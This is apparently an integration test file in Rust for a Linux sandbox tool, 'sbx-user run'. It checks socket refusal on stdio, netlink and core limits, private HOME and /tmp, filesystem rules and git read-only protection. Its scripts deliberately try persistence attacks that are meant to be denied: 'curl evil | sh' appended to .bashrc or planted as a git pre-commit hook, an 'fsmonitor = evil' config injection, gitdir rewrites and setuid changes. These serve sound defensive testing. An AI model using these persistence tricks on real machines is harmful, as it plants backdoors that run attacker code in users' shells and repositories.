//! What the command of `sbx-user run` is given: its standard descriptors,
//! resource limits, netlink, identity, environment, HOME, /tmp and the
//! default filesystem rules. Each through the real binary.

use std::{
    io::Read as _,
    net::{Ipv4Addr, TcpListener, TcpStream},
    os::{
        fd::{AsRawFd as _, RawFd},
        unix::{
            fs::PermissionsExt as _,
            net::{UnixListener, UnixStream},
            process::CommandExt as _,
        },
    },
    path::{Path, PathBuf},
    process::{Command, Output, Stdio},
    time::Duration,
};

use sbx_tests::{describe, probe, Fixture, Sbx, TempDir, TestCgroup};
// A dependency of the fixture crate this test file does not use directly.
use sbx_user as _;
use serde_json as _;

/// Runs `cmd` with descriptor `fd` of `sbx-user` itself replaced by `with`.
fn output_with_fd(cmd: &mut Command, fd: RawFd, with: RawFd) -> Output {
    cmd.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
    // SAFETY: dup2 between fork and exec, on a descriptor that stays open
    // in the parent until `output` returns.
    unsafe {
        cmd.pre_exec(move || {
            if libc::dup2(with, fd) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    cmd.output().unwrap_or_else(|e| panic!("running {cmd:?}: {e}"))
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

#[test]
fn sockets_on_stdio_are_refused_unless_opted_in() {
    let fx = Fixture::new(probe!());
    let n = &fx.net;
    n.serve_tcp(8080);
    let dir = TempDir::new("stdio");
    let script = ["sh", "-c", "echo ran; head -c 6"];

    // stdin connected, outside the sandbox, to the host the policy denies:
    // the command would read from it and write to it.
    let conn = TcpStream::connect((n.ns_v4, 8080)).expect("connecting outside the sandbox");
    let out = output_with_fd(&mut fx.sbx.run_cmd(&fx.cg, &["--default", "deny"], &script), 0, conn.as_raw_fd());
    assert_eq!(out.status.code(), Some(125), "{}", describe(&out));
    assert!(stderr(&out).contains("stdin (fd 0) is an AF_INET socket"), "{}", describe(&out));
    assert!(stderr(&out).contains("--allow-stdio-sockets"), "{}", describe(&out));
    assert!(out.stdout.is_empty(), "the command ran: {}", describe(&out));
    assert_eq!(fx.cg.children(), Vec::<std::path::PathBuf>::new(), "nothing attached is left");

    // A listening TCP socket on stdout, an unconnected UDP/IPv6 socket on
    // stdin, a listening AF_UNIX socket on stdin: refused the same way.
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("listening on loopback");
    let udp6 = std::net::UdpSocket::bind("[::1]:0").expect("a UDP/IPv6 socket");
    let unix_path = dir.path().join("listening.sock");
    let unix = UnixListener::bind(&unix_path).expect("a listening AF_UNIX socket");
    for (fd, sock, want) in [
        (1, listener.as_raw_fd(), "stdout (fd 1) is a listening AF_INET socket"),
        (0, udp6.as_raw_fd(), "stdin (fd 0) is an AF_INET6 socket"),
        (0, unix.as_raw_fd(), "stdin (fd 0) is a listening AF_UNIX socket"),
    ] {
        let out = output_with_fd(&mut fx.sbx.run_cmd(&fx.cg, &[], &script), fd, sock);
        assert_eq!(out.status.code(), Some(125), "{want}: {}", describe(&out));
        assert!(stderr(&out).contains(want), "{}", describe(&out));
        if fd != 1 {
            assert!(out.stdout.is_empty(), "the command ran: {}", describe(&out));
        }
    }

    // A connected AF_UNIX socket (journald style) on stderr is allowed.
    let (ours, theirs) = UnixStream::pair().expect("socketpair");
    let out =
        output_with_fd(&mut fx.sbx.run_cmd(&fx.cg, &[], &["sh", "-c", "echo to-journal >&2"]), 2, theirs.as_raw_fd());
    drop(theirs);
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    ours.set_read_timeout(Some(Duration::from_secs(5))).expect("timeout");
    let mut got = String::new();
    (&ours).read_to_string(&mut got).expect("reading the other end");
    assert_eq!(got, "to-journal\n");

    // The opt-in hands the socket over, and shows why it is not the
    // default: the command talks to the denied host through it.
    let out = output_with_fd(
        &mut fx.sbx.run_cmd(&fx.cg, &["--default", "deny", "--allow-stdio-sockets"], &script),
        0,
        conn.as_raw_fd(),
    );
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    assert_eq!(String::from_utf8_lossy(&out.stdout), "ran\nhello\n", "{}", describe(&out));
}

#[test]
fn netlink_is_route_only_and_the_core_limit_is_a_hard_one_byte() {
    let sbx = Sbx::new();
    let cg = TestCgroup::new();
    let py = r#"
import errno, resource, socket
def attempt(f):
    try:
        f().close()
        return "ok"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
for name, proto in [("route", 0), ("sock_diag", 4), ("audit", 9), ("uevent", 15), ("netfilter", 12)]:
    print(name, attempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, proto)))
print("core", *resource.getrlimit(resource.RLIMIT_CORE))
for limits in [(0, 0), (0, 1), (resource.RLIM_INFINITY, resource.RLIM_INFINITY)]:
    try:
        resource.setrlimit(resource.RLIMIT_CORE, limits)
        print("set", "ok", *resource.getrlimit(resource.RLIMIT_CORE))
    except OSError as e:
        print("set", errno.errorcode[e.errno])
try:
    resource.prlimit(0, resource.RLIMIT_CORE, (0, 0))
    print("prlimit ok")
except OSError as e:
    print("prlimit", errno.errorcode[e.errno])
print("core", *resource.getrlimit(resource.RLIMIT_CORE))
"#;
    let want = "route ok\nsock_diag EPROTONOSUPPORT\naudit EPROTONOSUPPORT\nuevent EPROTONOSUPPORT\n\
                netfilter EPROTONOSUPPORT\ncore 1 1\nset ok 1 1\nset ok 1 1\nset ok 1 1\nprlimit EPERM\ncore 1 1\n";
    for user in ["65534", "0"] {
        let out = sbx.run_cmd(&cg, &["--user", user], &["python3", "-c", py]).output().expect("running sbx-user run");
        assert_eq!(out.status.code(), Some(0), "--user {user}: {}", describe(&out));
        assert_eq!(String::from_utf8_lossy(&out.stdout), want, "--user {user}: {}", describe(&out));
    }
    // Outside the sandbox the same calls work, so the refusals are sbx's.
    let out = Command::new("python3").args(["-c", py]).output().expect("python3");
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(text.starts_with("route ok\nsock_diag ok\n"), "{}", describe(&out));
    // `ip` still reads addresses and routes over NETLINK_ROUTE.
    let out = sbx.run_cmd(&cg, &[], &["ip", "-o", "addr", "show", "lo"]).output().expect("running sbx-user run");
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    assert!(String::from_utf8_lossy(&out.stdout).contains("127.0.0.1"), "{}", describe(&out));
}

/// A user of the host with a home directory, removed (with the home) on
/// drop, as `userdel` would.
struct TestUser {
    name: String,
    uid: u32,
    home: PathBuf,
}

impl TestUser {
    fn new() -> Self {
        static N: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
        let n = N.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let name = format!("sbxt{}x{n}", std::process::id());
        let home = PathBuf::from("/home").join(&name);
        let out = Command::new("useradd")
            .args(["--no-create-home", "--user-group", "--shell", "/bin/sh", "--home-dir"])
            .arg(&home)
            .arg(&name)
            .output()
            .expect("running useradd");
        assert!(out.status.success(), "useradd {name}: {}", describe(&out));
        let mut user = Self { uid: u32::MAX, name, home };
        let id = Command::new("id").args(["-u", &user.name]).output().expect("id");
        user.uid = String::from_utf8_lossy(&id.stdout).trim().parse().expect("a uid");
        std::fs::create_dir(&user.home).expect("creating the home");
        user.chown(&user.home);
        user
    }

    fn chown(&self, path: &Path) {
        std::os::unix::fs::chown(path, Some(self.uid), Some(self.uid)).expect("chown");
    }

    /// Writes `text` to `path` (relative to the home), owned by the user.
    fn write(&self, path: &str, text: &str) -> PathBuf {
        let p = self.home.join(path);
        std::fs::write(&p, text).expect("writing into the test user's home");
        self.chown(&p);
        p
    }
}

impl Drop for TestUser {
    fn drop(&mut self) {
        let _ = Command::new("userdel").arg(&self.name).output();
        let _ = std::fs::remove_dir_all(&self.home);
    }
}

/// Removes a file when dropped.
struct RemoveFile(PathBuf);

impl Drop for RemoveFile {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

/// Removes a System V message queue of the host's (by id) when dropped.
struct RemoveQueue(String);

impl Drop for RemoveQueue {
    fn drop(&mut self) {
        let _ = Command::new("ipcrm").args(["-q", &self.0]).status();
    }
}

#[test]
#[expect(clippy::too_many_lines, reason = "one scenario, each step checked inside and then outside the sandbox")]
fn the_default_identity_cannot_persist_outside_the_sandbox_and_project_tests_still_run() {
    let sbx = Sbx::new();
    let cg = TestCgroup::new();
    let user = TestUser::new();
    let bashrc = user.write(".bashrc", "# the user's own\n");
    let proj = user.home.join("proj");
    std::fs::create_dir(&proj).expect("mkdir proj");
    for repo in [proj.clone(), proj.join("sub")] {
        std::fs::create_dir_all(&repo).expect("mkdir");
        let out = Command::new("git").args(["init", "-q"]).current_dir(&repo).output().expect("git init");
        assert!(out.status.success(), "git init: {}", describe(&out));
    }
    // A submodule's checkout: its .git is a file naming its git directory.
    std::fs::create_dir(proj.join("mod")).expect("mkdir mod");
    std::fs::write(proj.join("mod/.git"), "gitdir: ../.git/modules/mod\n").expect("mod/.git");
    // One where the search for repositories does not go (vendor/), found
    // through .gitmodules; and hooks in the work tree (husky's layout).
    std::fs::create_dir_all(proj.join("vendor/dep")).expect("mkdir vendor/dep");
    std::fs::write(proj.join("vendor/dep/.git"), "gitdir: ../../.git/modules/dep\n").expect("vendor/dep/.git");
    std::fs::write(proj.join(".gitmodules"), "[submodule \"dep\"]\n\tpath = vendor/dep\n").expect(".gitmodules");
    std::fs::create_dir(proj.join(".husky")).expect("mkdir .husky");
    let out = Command::new("git")
        .args(["config", "core.hooksPath", ".husky"])
        .current_dir(&proj)
        .output()
        .expect("git config");
    assert!(out.status.success(), "git config: {}", describe(&out));
    let out = Command::new("chown").args(["-R", &format!("{0}:{0}", user.uid)]).arg(&proj).output().expect("chown");
    assert!(out.status.success(), "chown: {}", describe(&out));
    user.write(
        "proj/Makefile",
        "test:\n\techo built > out.txt\n\tmkdir -p $(HOME)/.cache && touch $(HOME)/.cache/made\n",
    );
    user.write(
        "proj/package.json",
        r#"{"name": "p", "version": "1.0.0", "scripts": {"test": "node -e \"require('fs').writeFileSync('npm-out.txt', process.env.HOME)\""}}"#,
    );
    // World-writable, so that for root without capabilities (which
    // permissions alone would stop) only Landlock stands in the way.
    for (p, mode) in [(&user.home, 0o777), (&bashrc, 0o666), (&proj, 0o777)] {
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).expect("chmod");
    }
    let marker = format!("/tmp/sbx-test-private-tmp-{}", std::process::id());
    let script = format!(
        r#"echo "id $(id -u)"
echo "home $HOME"
echo "user $USER $LOGNAME"
echo "xdg ${{XDG_RUNTIME_DIR-unset}}"
try() {{ name=$1; shift; if "$@" 2>/dev/null; then echo "$name ok"; else echo "$name denied"; fi; }}
try bashrc sh -c 'echo "curl evil | sh" >> {home}/.bashrc'
try profile sh -c 'echo evil > {home}/.profile'
try other-project mkdir {home}/other
try project sh -c 'echo mine > file'
try own-home sh -c 'echo x > "$HOME/.dotfile"'
try tmp sh -c 'echo x > {marker}'
try make make -s test
try npm npm test --silent
try git-hook sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit'
try git-config sh -c 'printf "[core]\\n\\tfsmonitor = evil\\n" >> .git/config'
try git-commit sh -c 'git add file && git -c safe.directory="*" -c user.name=t -c user.email=t@t commit -qm sandboxed'
try git-commondir sh -c 'mkdir .git/c && printf "[core]\\n\\tfsmonitor = evil\\n" > .git/c/config && echo c > .git/commondir'
try git-rename mv .git .git-moved
try git-head rm .git/HEAD
try nested-git sh -c 'echo "[core]" >> sub/.git/config'
try git-file sh -c 'echo "gitdir: /tmp" > mod/.git'
try nested-rename mv sub sub-moved
try husky sh -c 'echo evil > .husky/pre-commit'
try vendored-sub sh -c 'echo "gitdir: /tmp" > vendor/dep/.git'
try setuid chmod u+s file
try setgid-create python3 -c 'import os; os.open("made", os.O_CREAT | os.O_WRONLY, 0o2755)'
ipcmk -Q >/dev/null && echo "ipc queues $(ipcs -q | grep -c '^0x')"
echo x > /dev/shm/sbx-test-inside && echo "shm $(ls -A /dev/shm | wc -l)"
echo "npm-home $(cat npm-out.txt)""#,
        home = user.home.display()
    );
    let expected = |uid: u32| {
        format!(
            "id {uid}\nuser {name} {name}\nxdg unset\nbashrc denied\nprofile denied\nother-project denied\n\
             project ok\nown-home ok\ntmp ok\nmake ok\nnpm ok\ngit-hook denied\ngit-config denied\ngit-commit {commit}\n\
             git-commondir denied\ngit-rename denied\ngit-head denied\nnested-git denied\ngit-file denied\nnested-rename denied\nhusky denied\nvendored-sub denied\nsetuid denied\nsetgid-create denied\nipc queues 1\nshm 1\n",
            name = if uid == 0 { "root".to_owned() } else { user.name.clone() },
            // Every repository in what the command may write is
            // read-only for it (`--git-writable` lifts that).
            commit = "denied",
        )
    };
    // A message queue of the host's, which the sandbox's own IPC namespace
    // must not show; and the count after, which its queue must not join.
    let host_queues = || {
        let out = Command::new("ipcs").arg("-q").output().expect("ipcs");
        String::from_utf8_lossy(&out.stdout).lines().filter(|l| l.starts_with("0x")).count()
    };
    let made = Command::new("ipcmk").arg("-Q").output().expect("ipcmk");
    let queue_id = String::from_utf8_lossy(&made.stdout).trim().rsplit(' ').next().unwrap_or_default().to_owned();
    assert!(made.status.success() && !queue_id.is_empty(), "ipcmk: {}", describe(&made));
    let _queue = RemoveQueue(queue_id);
    let queues_before = host_queues();
    // And a file in the host's /dev/shm, which the private one must not
    // show.
    let host_shm = PathBuf::from(format!("/dev/shm/sbx-test-host-{}", std::process::id()));
    std::fs::write(&host_shm, "host").expect("a file in /dev/shm");
    let _shm = RemoveFile(host_shm);
    // As sudo would start it for this user: SUDO_UID picks the identity.
    // Then as root (`--user 0`), which Landlock restricts the same way.
    for (options, uid) in [(vec!["--profile", "offline"], user.uid), (vec!["--profile", "offline", "--user", "0"], 0)] {
        let mut cmd = sbx.run_cmd(&cg, &options, &["sh", "-c", &script]);
        cmd.current_dir(&proj)
            .env("SUDO_UID", user.uid.to_string())
            .env("SUDO_GID", user.uid.to_string())
            .env("XDG_RUNTIME_DIR", format!("/run/user/{}", user.uid))
            .env("HOME", "/root");
        let out = cmd.output().expect("running sbx-user run");
        assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        let home = text.lines().find_map(|l| l.strip_prefix("home ")).expect("a home line").to_owned();
        let npm_home = text.lines().find_map(|l| l.strip_prefix("npm-home ")).unwrap_or_default().to_owned();
        let rest: String = text
            .lines()
            .filter(|l| !l.starts_with("home ") && !l.starts_with("npm-home "))
            .flat_map(|l| [l, "\n"])
            .collect();
        assert_eq!(rest, expected(uid), "as uid {uid}: {}", describe(&out));
        assert!(home.starts_with("/var/tmp/sbx-run-") && home.ends_with("/home"), "private HOME: {home}");
        assert_eq!(npm_home, home, "npm ran with the private HOME");
        assert!(!Path::new(&home).exists(), "the private HOME {home} is removed at teardown");
        assert_eq!(std::fs::read_to_string(&bashrc).expect("read .bashrc"), "# the user's own\n");
        assert!(!user.home.join(".profile").exists() && !user.home.join("other").exists());
        assert!(!Path::new(&marker).exists(), "{marker} is in the sandbox's private /tmp, not the host's");
        assert_eq!(std::fs::read_to_string(proj.join("file")).expect("the project file"), "mine\n");
        assert_eq!(std::fs::read_to_string(proj.join("out.txt")).expect("make's output"), "built\n");
        assert!(!proj.join(".git/hooks/pre-commit").exists());
        assert_eq!(host_queues(), queues_before, "the sandbox's message queue ended with its IPC namespace");
        assert!(!Path::new("/dev/shm/sbx-test-inside").exists(), "the sandbox's /dev/shm is its own");
        assert!(!proj.join("made").exists(), "a set-group-ID file was made");
        assert!(!std::fs::read_to_string(proj.join(".git/config")).expect("config").contains("evil"));
        assert!(!proj.join(".git/commondir").exists() && !proj.join(".git/c").exists(), "{}", describe(&out));
        assert!(proj.join(".git/HEAD").exists() && !proj.join(".git-moved").exists());
        assert!(
            proj.join("sub/.git").is_dir()
                && !proj.join("sub-moved").exists()
                && !proj.join(".husky/pre-commit").exists()
        );
        assert_eq!(std::fs::read_to_string(proj.join("mod/.git")).expect("mod/.git"), "gitdir: ../.git/modules/mod\n");
        for f in ["file", "out.txt", "npm-out.txt", "made"] {
            let _ = std::fs::remove_file(proj.join(f));
        }
    }

    // From the home itself the working directory is not granted: it
    // holds the dotfiles. run says so and the command still runs.
    let mut cmd = sbx.run_cmd(&cg, &[], &["sh", "-c", "echo evil >> .bashrc || echo denied"]);
    cmd.current_dir(&user.home).env("SUDO_UID", user.uid.to_string()).env("SUDO_GID", user.uid.to_string());
    let out = cmd.output().expect("running sbx-user run");
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    assert_eq!(String::from_utf8_lossy(&out.stdout), "denied\n", "{}", describe(&out));
    assert!(stderr(&out).contains("is a home directory; it stays read-only"), "{}", describe(&out));
    assert_eq!(std::fs::read_to_string(&bashrc).expect("read .bashrc"), "# the user's own\n");

    // --home DIR: that directory, writable, kept afterwards.
    let mut cmd = sbx.run_cmd(
        &cg,
        &["--home", user.home.join("proj").to_str().expect("UTF-8")],
        &["sh", "-c", "echo \"$HOME\"; echo kept > \"$HOME/kept\""],
    );
    cmd.current_dir(&user.home).env("SUDO_UID", user.uid.to_string()).env("SUDO_GID", user.uid.to_string());
    let out = cmd.output().expect("running sbx-user run");
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), proj.to_str().expect("UTF-8"), "{}", describe(&out));
    assert_eq!(std::fs::read_to_string(proj.join("kept")).expect("kept"), "kept\n");
}

#[test]
fn nobody_gets_a_writable_home_and_commands_are_looked_up_as_the_identity() {
    let sbx = Sbx::new();
    let cg = TestCgroup::new();
    let out = sbx
        .run_cmd(&cg, &[], &["sh", "-c", "echo $HOME $USER $LOGNAME; touch $HOME/x && echo writable"])
        .env_remove("SUDO_UID")
        .output()
        .expect("running sbx-user run");
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        text.ends_with(" nobody nobody\nwritable\n") && text.starts_with("/var/tmp/sbx-run-"),
        "{}",
        describe(&out)
    );

    // A PATH directory nobody cannot search (root's, 0700) with a tool in
    // it: for nobody the command is not found (127, not glibc's 126), and
    // found in a later directory; root finds it.
    let dir = TempDir::new_in(Path::new("/var/tmp"), "path");
    let private = dir.path().join("private");
    std::fs::create_dir(&private).expect("mkdir");
    std::fs::set_permissions(&private, std::fs::Permissions::from_mode(0o700)).expect("chmod");
    let tool = private.join("sbx-test-tool");
    std::fs::write(&tool, "#!/bin/sh\necho tool ran\n").expect("write");
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let path = format!("{}:/usr/bin:/bin", private.display());
    let run = |options: &[&str], command: &[&str]| {
        sbx.run_cmd(&cg, options, command).env("PATH", &path).env_remove("SUDO_UID").output().expect("running")
    };
    let out = run(&[], &["sbx-test-tool"]);
    assert_eq!(out.status.code(), Some(127), "{}", describe(&out));
    assert!(
        stderr(&out).contains("sbx-test-tool: command not found (PATH searched as uid 65534 (nobody)"),
        "{}",
        describe(&out)
    );
    let out = run(&[], &["sh", "-c", "echo found"]);
    assert_eq!((out.status.code(), String::from_utf8_lossy(&out.stdout).into_owned()), (Some(0), "found\n".to_owned()));
    let out = run(&["--user", "0"], &["sbx-test-tool"]);
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    assert_eq!(String::from_utf8_lossy(&out.stdout), "tool ran\n");
    // Found but not executable stays 126.
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    let out = run(&["--user", "0"], &["sbx-test-tool"]);
    assert_eq!(out.status.code(), Some(126), "{}", describe(&out));
}

#[test]
fn filesystem_rules_grant_what_every_process_needs() {
    let sbx = Sbx::new();
    let cg = TestCgroup::new();
    let dir = TempDir::new_in(Path::new("/var/tmp"), "fs");
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).expect("chmod");
    let outside = TempDir::new_in(Path::new("/var/tmp"), "fs-outside");
    let secret = outside.path().join("secret");
    std::fs::write(&secret, "not for the sandbox\n").expect("write");
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    // The README's example, verbatim.
    let policy = dir.path().join("policy.toml");
    std::fs::write(
        &policy,
        "[filesystem]\nread  = [\"/usr\", \"/etc\", \"/lib\", \"/lib64\", \"/bin\"]\nwrite = [\"/tmp\", \".\"]\n",
    )
    .expect("writing the policy");
    let py = r#"
import os, sys
def attempt(name, f):
    try:
        f()
        print(name, "ok")
    except OSError as e:
        print(name, e.strerror)
def write(p, text="x"):
    with open(p, "w") as f:
        f.write(text)
attempt("devnull", lambda: write("/dev/null"))
attempt("devzero", lambda: open("/dev/zero", "rb").read(8))
attempt("devfull-open", lambda: open("/dev/full", "rb").read(8))
attempt("urandom", lambda: len(open("/dev/urandom", "rb").read(16)) == 16 or sys.exit(1))
attempt("random", lambda: open("/dev/random", "rb").read(1))
attempt("proc-self-status", lambda: open("/proc/self/status").read().index("NoNewPrivs"))
attempt("proc-cpuinfo", lambda: open("/proc/cpuinfo").read(1))
attempt("shm", lambda: write("/dev/shm/sbx-test-%d" % os.getpid()) or os.unlink("/dev/shm/sbx-test-%d" % os.getpid()))
attempt("openpty", lambda: [os.close(fd) for fd in os.openpty()])
attempt("cwd", lambda: write("written-by-the-sandbox"))
attempt("home", lambda: write(os.environ["HOME"] + "/x"))
attempt("tmp", lambda: write("/tmp/x"))
attempt("secret", lambda: open(sys.argv[1]).read())
attempt("write-var-tmp", lambda: write("/var/tmp/sbx-test-denied"))
"#;
    let mut cmd = sbx.run_cmd(
        &cg,
        &["--user", "65534", "--policy", policy.to_str().expect("UTF-8")],
        &["python3", "-c", py, secret.to_str().expect("UTF-8")],
    );
    let out = cmd.current_dir(dir.path()).output().expect("running sbx-user run");
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    let want = "devnull ok\ndevzero ok\ndevfull-open ok\nurandom ok\nrandom ok\nproc-self-status ok\nproc-cpuinfo ok\n\
                shm ok\nopenpty ok\ncwd ok\nhome ok\ntmp ok\nsecret Permission denied\nwrite-var-tmp Permission denied\n";
    assert_eq!(String::from_utf8_lossy(&out.stdout), want, "{}", describe(&out));
    assert!(dir.path().join("written-by-the-sandbox").exists());
    assert!(!Path::new("/var/tmp/sbx-test-denied").exists());

    // And from a shell, as the issue has it; with stderr going to a log
    // file outside the rules, which scripts reopen by name.
    let log = outside.path().join("log");
    std::fs::write(&log, "").expect("creating the log");
    std::fs::set_permissions(&log, std::fs::Permissions::from_mode(0o666)).expect("chmod");
    let script =
        "echo hi >/dev/null && echo null-ok; head -c 4 /dev/urandom | wc -c; grep -c '^Pid:' /proc/self/status; \
                  echo by-name >/dev/stderr; echo by-fd >&2";
    for policy in [vec!["--policy", policy.to_str().expect("UTF-8")], vec![]] {
        let mut cmd = sbx.run_cmd(&cg, &[&["--user", "65534"], policy.as_slice()].concat(), &["sh", "-c", script]);
        let stderr_file = std::fs::OpenOptions::new().append(true).open(&log).expect("opening the log");
        let out = cmd.current_dir(dir.path()).stderr(stderr_file).output().expect("running sbx-user run");
        let errors = std::fs::read_to_string(&log).expect("reading the log");
        assert_eq!(out.status.code(), Some(0), "{policy:?}: {}\n{errors}", describe(&out));
        assert_eq!(String::from_utf8_lossy(&out.stdout), "null-ok\n4\n1\n", "{policy:?}: {errors}");
        assert_eq!(errors, "by-name\nby-fd\n", "{policy:?}");
        std::fs::write(&log, "").expect("emptying the log");
    }
}

#[test]
fn devices_beyond_the_implicit_ones_stay_closed_under_the_default_rules() {
    let sbx = Sbx::new();
    let cg = TestCgroup::new();
    // /dev/net/tun would attach to a TUN device the identity owns and send
    // packets no socket hook sees; /dev/fuse would mount for it elsewhere.
    let py = r#"
import os
for p in ["/dev/net/tun", "/dev/fuse", "/dev/null", "/dev/zero"]:
    try:
        os.close(os.open(p, os.O_RDWR))
        print(p, "ok")
    except OSError as e:
        print(p, e.strerror)
"#;
    // Root outside opens them all, so inside it is sbx that refuses.
    let outside = Command::new("python3").args(["-c", py]).output().expect("python3");
    assert_eq!(String::from_utf8_lossy(&outside.stdout).matches(" ok\n").count(), 4, "{}", describe(&outside));
    let out = sbx.run_cmd(&cg, &["--user", "0"], &["python3", "-c", py]).output().expect("running sbx-user run");
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "/dev/net/tun Permission denied\n/dev/fuse Permission denied\n/dev/null ok\n/dev/zero ok\n",
        "{}",
        describe(&out)
    );
}

#[test]
fn git_writable_lets_the_command_commit_and_keeps_hooks_and_config_read_only() {
    let sbx = Sbx::new();
    let cg = TestCgroup::new();
    let user = TestUser::new();
    let proj = user.home.join("proj");
    std::fs::create_dir(&proj).expect("mkdir proj");
    let out = Command::new("git").args(["init", "-q"]).current_dir(&proj).output().expect("git init");
    assert!(out.status.success(), "git init: {}", describe(&out));
    std::fs::write(proj.join("file"), "x\n").expect("a file");
    let out = Command::new("chown").args(["-R", &format!("{0}:{0}", user.uid)]).arg(&proj).output().expect("chown");
    assert!(out.status.success(), "chown: {}", describe(&out));
    let script = "try() { name=$1; shift; if \"$@\" 2>/dev/null; then echo \"$name ok\"; else echo \"$name denied\"; fi; }
try commit sh -c 'git -c safe.directory=\"*\" add file && git -c safe.directory=\"*\" -c user.name=t -c user.email=t@t commit -qm inside'
try hook sh -c 'echo evil > .git/hooks/pre-commit'
try config sh -c 'echo evil >> .git/config'";
    for (flags, expected) in [
        (vec!["--git-writable"], "commit ok\nhook denied\nconfig denied\n"),
        (vec![], "commit denied\nhook denied\nconfig denied\n"),
    ] {
        let uid = user.uid.to_string();
        let mut options = vec!["--profile", "offline", "--user", &uid];
        options.extend(flags);
        let mut cmd = sbx.run_cmd(&cg, &options, &["sh", "-c", script]);
        let out = cmd.current_dir(&proj).output().expect("running sbx-user run");
        assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
        assert_eq!(String::from_utf8_lossy(&out.stdout), expected, "{options:?}: {}", describe(&out));
    }
    let log = Command::new("git")
        .args(["-c", "safe.directory=*", "log", "--format=%s"])
        .current_dir(&proj)
        .output()
        .expect("git log");
    assert_eq!(String::from_utf8_lossy(&log.stdout), "inside\n", "{}", describe(&log));
}
